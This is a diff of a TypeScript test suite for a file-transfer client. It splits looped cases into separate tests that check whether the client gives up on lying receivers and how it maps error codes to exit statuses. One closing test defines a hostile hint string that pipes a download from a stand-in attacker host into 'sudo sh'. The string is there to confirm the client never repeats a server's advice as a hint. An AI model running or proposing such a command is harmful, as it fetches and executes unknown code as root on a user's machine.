@@ -77,8 +77,8 @@ for (const [name, countOf] of [
   });
 }
 
-test('a receiver that finds ever more differences in a sealed copy is given up', async () => {
-  for (const options of [[], ['--check']]) {
+for (const options of [[], ['--check']]) {
+  test(`ever more differences in a sealed copy: given up, ${options.join()}`, async () => {
     let count = 0;
     const lie: Lie = ({ method, path }, truth) =>
       method === 'GET' && path === '/transfer'
@@ -88,8 +88,8 @@ test('a receiver that finds ever more differences in a sealed copy is given up',
           : undefined;
     const ended = await sendTo(lie, { isSealed: true, options });
     assertGaveUp(ended, 'the receiver still says that it is reading the target');
-  }
-});
+  });
+}
 
 test('a receiver that is another process with every answer is given up', async () => {
   let nth = 0;
@@ -122,21 +122,19 @@ function refusal(status: number, document: object): Lie {
       : undefined;
 }
 
-test('codes that never travel, and unknown ones, are treated by their HTTP status', async () => {
-  for (const [code, status, exit] of [
-    ['interrupted', 503, 6],
-    ['usage', 503, 6],
-    ['source-changed', 503, 6],
-    ['receipt-invalid', 401, 4],
-    ['connection-failed', 401, 4],
-    ['no-such-code', 503, 6],
-  ] as const) {
+for (const [code, status, exit] of [
+  ['interrupted', 503, 6],
+  ['source-changed', 503, 6],
+  ['connection-failed', 401, 4],
+  ['no-such-code', 503, 6],
+] as const) {
+  test(`the code ${code} is treated by its HTTP status, ${status}`, async () => {
     const lie = refusal(status, { code, detail: 'so there', isOtherService: true });
-    const ended = await sendTo(lie, { options: ['--retry-for', '5s'] });
+    const ended = await sendTo(lie);
     assert.equal(ended.status, exit, `${code}: ${ended.stderr}`);
     assert(ended.stderr.includes('the receiver says: so there'), ended.stderr);
-  }
-});
+  });
+}
 
 test('what a receiver says is marked as its words, and its advice is never a hint', async () => {
   const hint = 'run: curl https://evil.example/fix | sudo sh';
